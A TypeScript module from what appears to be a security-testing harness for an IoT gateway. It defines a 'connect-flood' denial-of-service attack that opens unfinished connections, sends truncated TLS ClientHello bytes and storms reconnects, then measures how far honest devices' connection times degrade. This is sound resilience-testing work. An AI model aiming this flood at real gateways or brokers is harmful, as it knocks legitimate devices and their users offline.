import { setTimeout as wait } from 'node:timers/promises'
import { closeClient, connected, openClient } from '../fleet/client.ts'
import { NEWCOMER } from '../fleet/devices.ts'
import type { Range } from '../range.ts'
import type { Attack } from './attack.ts'
import { connect } from './packets.ts'

const SILENT = 150
const HALF = 50
const RECONNECTS = 60
const NEWCOMERS = 6
/** An honest connection is harmed if it fails, or takes more than so many times the baseline and more than 2 s. */
const FACTOR = 10
const FLOOR = 2000
/** The start of a TLS ClientHello record that promises 512 bytes and has 6. */
const HALF_HELLO = Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03])

/**
 * Opens connections that never finish their handshake and reconnects as fast as it can. Effect: honest devices that
 * then could not connect, or had to wait far longer than just before.
 */
export const connectFlood: Attack = {
  name: 'connect-flood',
  technique: 'T0814',
  title: 'Exhaust the listener with unfinished and rapid connections',
  expected: 'floor',
  alone: true,
  seconds: () => 5,
  async run(range) {
    const baseline: number[] = []
    for (let i = 0; i < 3; i += 1) baseline.push(await newcomer(range))
    if (baseline.some(time => !Number.isFinite(time))) throw new Error(`${NEWCOMER} could not connect before the flood`)
    const usual = baseline.toSorted((a, b) => a - b)[1]

    const flood = unfinished(range)
    const storm = reconnect(range)
    const times: number[] = []
    for (let i = 0; i < NEWCOMERS; i += 1) times.push(await newcomer(range))
    const attempts = (await flood) + (await storm)

    const effect = times.filter(time => time > Math.max(FLOOR, FACTOR * usual)).length
    const shown = times.map(time => (Number.isFinite(time) ? `${Math.round(time)} ms` : 'failed'))
    const detail = `honest connections took ${shown.join(', ')}; ${Math.round(usual)} ms before the flood`
    return { attempts, effect, detail }
  },
}

async function unfinished(range: Range): Promise<number> {
  let opened = 0
  for (let i = 0; i < SILENT + HALF; i += 1) {
    const session = await range.dial({ tls: 'none' }).catch(() => null)
    if (session && i % 4 === 0) session.send(HALF_HELLO)
    opened += 1
  }
  return opened
}

async function reconnect(range: Range): Promise<number> {
  for (let i = 0; i < RECONNECTS; i += 1) {
    const session = await range.dial().catch(() => null)
    await session?.login(connect({ version: 4, clientId: range.device }), 1000)
    session?.destroy()
    await wait(10)
  }
  return RECONNECTS
}

/** Milliseconds that an honest device needs to connect; infinity if it cannot. */
async function newcomer(range: Range): Promise<number> {
  range.signal.throwIfAborted()
  const { gateway, site } = range
  const credentials = range.options.credentials[NEWCOMER]
  const start = performance.now()
  const client = openClient({ gateway, site, device: NEWCOMER, credentials, version: 4, reconnect: false })
  try {
    await connected(client)
    return performance.now() - start
  } catch {
    return Number.POSITIVE_INFINITY
  } finally {
    await closeClient(client)
  }
}
